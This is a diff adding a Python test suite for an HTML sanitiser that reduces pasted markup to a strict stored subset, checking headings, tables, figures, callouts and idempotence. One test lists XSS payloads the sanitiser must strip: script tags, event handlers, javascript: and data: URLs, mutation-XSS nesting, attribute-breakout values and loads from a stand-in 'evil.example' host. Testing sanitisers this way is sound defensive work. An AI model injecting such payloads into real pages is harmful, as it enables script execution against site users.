@@ -1,0 +1,136 @@
+"""What enters the database: the strict subset, and every visible word."""
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from prose import subset
+from prose.cleaning import clean, parse
+from prose.structure import plain_text
+
+
+@pytest.mark.parametrize(
+    ("markup", "stored"),
+    [
+        ("words alone", "<p>words alone</p>"),
+        ("<div>one<br><br></div><div>two</div>", "<p>one</p>\n<p>two</p>"),
+        ("<p>a <b>b</b> <i>c</i> <del>d</del></p>", "<p>a <strong>b</strong> <em>c</em> <s>d</s></p>"),
+        ("<h1>Top</h1><h6>Low</h6>", '<h2 id="top">Top</h2>\n<h4 id="low">Low</h4>'),
+        (
+            "<ul><li><p>one</p></li><li>two<ul><li>in</li></ul></li></ul>",
+            "<ul><li>one</li><li>two<ul><li>in</li></ul></li></ul>",
+        ),
+        ("<p></p><p>&nbsp;</p><p>x</p>", "<p>x</p>"),
+        ("<a href='/x'><div>in a block</div></a>", "<p>in a block</p>"),
+        ("<pre>a  <b>b</b>\n c</pre>", "<pre><code>a  b\n c</code></pre>"),
+        ("<blockquote>q</blockquote>", "<blockquote><p>q</p></blockquote>"),
+        ("<p>one <img src='/x.jpg' alt='x'> two</p>", "<p>one two</p>"),
+        ("<figure><img src='/x.jpg'><figcaption>Said</figcaption></figure>", "<p>Said</p>"),
+        ("<p>kept <unknown>words</unknown></p>", "<p>kept words</p>"),
+        (
+            '<iframe src="//www.youtube.com/embed/x"></iframe>',
+            '<p><a href="https://www.youtube.com/embed/x">https://www.youtube.com/embed/x</a></p>',
+        ),
+    ],
+)
+def test_other_writers_html_becomes_the_subset(markup: str, stored: str) -> None:
+    assert clean(markup) == stored
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "<script>alert(1)</script>",
+        "<p onclick=alert(1)>x</p>",
+        '<a href="javascript:alert(1)">x</a>',
+        '<a href=" java\nscript:alert(1)">x</a>',
+        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+        "<img src=x onerror=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<style>p{background:url(//evil.example)}</style>",
+        '<p style="position:fixed">x</p>',
+        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+        '<iframe src="javascript:alert(1)"></iframe>',
+        "<form action=//evil.example><input name=a></form>",
+        "<meta http-equiv=refresh content=0>",
+        "<object data=x></object><embed src=x>",
+        "<figure><img data-image='1\" onerror=alert(1) x=\"' src=x></figure>",
+        "<aside data-callout='tip' data-title='\"><script>alert(1)</script>'><p>x</p></aside>",
+    ],
+)
+def test_nothing_that_runs_or_loads_survives(attack: str) -> None:
+    root = parse(clean(f"<p>before</p>{attack}<p>after</p>") or "<p></p>")
+    for element in root.iterdescendants():
+        assert element.tag in subset.TAGS
+        for name, value in element.attrib.items():
+            assert not name.startswith("on")
+            assert name in subset.ATTRIBUTES["*"] | subset.ATTRIBUTES.get(element.tag, set())
+            assert not (name == "href" and re.match(r"\s*(javascript|data|vbscript)", value, re.I))
+    assert root[0].text == "before"
+
+
+def test_a_heading_keeps_its_address_when_its_words_change() -> None:
+    first = clean("<h2>Why it hurts</h2><h2>What helps</h2>")
+    later = clean(first.replace("Why it hurts</h2>", "Why it aches</h2>"))
+    assert 'id="why-it-hurts">Why it aches' in later
+    assert 'id="what-helps"' in later
+
+
+def test_two_headings_never_share_an_address() -> None:
+    stored = clean('<h2>Same</h2><h3>Same</h3><h2 id="same">Other</h2>')
+    ids = re.findall(r'id="([^"]+)"', stored)
+    assert len(ids) == len(set(ids)) == 3
+
+
+def test_a_picture_of_the_library_keeps_its_number_words_and_caption() -> None:
+    stored = clean(
+        '<p>x<img src="/old.jpg" data-image="7" alt="A knee" width="3"></p>'
+        '<figure><img data-image="8"><figcaption>By <em>me</em></figcaption></figure>'
+    )
+    assert '<figure><img data-image="7" alt="A knee"></figure>' in stored
+    assert '<figure><img data-image="8"><figcaption>By <em>me</em></figcaption></figure>' in stored
+
+
+def test_the_first_row_of_header_cells_becomes_the_tables_head() -> None:
+    stored = clean("<table data-caption='Plan'><tbody><tr><th><p>Day</p></th></tr><tr><td>1</td></tr></tbody></table>")
+    assert stored == (
+        '<table><caption>Plan</caption><thead><tr><th scope="col">Day</th></tr></thead>'
+        "<tbody><tr><td>1</td></tr></tbody></table>"
+    )
+
+
+def test_a_callout_keeps_kind_and_title_and_an_unknown_one_only_its_words() -> None:
+    assert clean('<aside data-callout="red-flags" data-title="Go now"><p>x</p></aside>') == (
+        '<aside data-callout="red-flags" data-title="Go now"><p>x</p></aside>'
+    )
+    assert clean('<aside data-callout="advert"><p>x</p></aside>') == "<p>x</p>"
+
+
+_tags = st.sampled_from(
+    ["p", "div", "span", "b", "i", "h1", "h3", "ul", "ol", "li", "table", "tr", "td", "th", "figure", "figcaption", "img", "aside", "blockquote", "pre", "a", "br", "hr", "section", "script", "dl", "dt", "dd", "sup"]
+)
+_words = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=12)
+_pieces = st.one_of(
+    _words,
+    _tags.map(lambda tag: f"<{tag}>"),
+    _tags.map(lambda tag: f"</{tag}>"),
+    st.sampled_from(['<img data-image="3">', '<aside data-callout="tip">', '<a href="/x">', "&nbsp;", "<!--", "  "]),
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(_pieces, max_size=25).map("".join))
+def test_cleaning_twice_changes_nothing_more(markup: str) -> None:
+    once = clean(markup)
+    assert clean(once) == once
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.lists(st.sampled_from(["knee", "hip", "back", "walk", "rest"]), min_size=1, max_size=8), st.data())
+def test_every_visible_word_survives_in_its_order(words: list[str], data: st.DataObject) -> None:
+    wrappers = st.sampled_from(["p", "div", "section", "b", "h2", "blockquote", "li", "td", "dd", "details", "summary", "figcaption", "label", "span"])
+    markup = "".join(f"<{tag}>{word}</{tag}> " for word in words for tag in [data.draw(wrappers)])
+    assert plain_text(clean(markup)).split() == words
